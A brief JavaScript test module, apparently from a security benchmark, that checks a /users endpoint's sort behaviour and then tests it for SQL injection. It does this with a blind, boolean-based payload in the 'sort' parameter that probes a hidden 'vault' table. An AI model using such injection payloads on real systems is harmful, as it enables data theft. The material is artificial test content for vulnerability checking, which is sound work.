const assert = require('node:assert/strict');

const ask = (app, sort) => app.call('GET', '/users', { query: { sort } });
exports.behaviour = async (app) => {
  assert.deepEqual((await ask(app, 'name')).body.map(({ id }) => id), [3, 1, 2]);
};
exports.exploit = async (app) => {
  const guess = "(SELECT CASE WHEN word LIKE 'decoy%' THEN -users.id ELSE users.id END FROM vault)";
  const { status, body } = await ask(app, guess);
  return status === 200 && body[0].id === 3;
};
